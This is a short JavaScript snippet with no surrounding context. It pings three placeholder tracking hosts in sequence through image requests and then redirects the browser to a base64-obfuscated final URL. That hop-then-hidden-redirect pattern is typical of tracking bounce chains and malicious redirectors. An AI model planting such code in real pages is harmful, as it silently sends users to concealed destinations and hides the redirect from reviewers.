var hops = ["//a.example/t", "//b.example/t", "//c.example/t"];
function bounce(i) {
  if (i >= hops.length) {
    window.location = atob("aHR0cDovL2xhc3QuZXhhbXBsZQ==");
    return;
  }
  var img = new Image();
  img.onerror = function () { bounce(i + 1); };
  img.src = hops[i] + "?r=" + Math.random();
}
bounce(0);
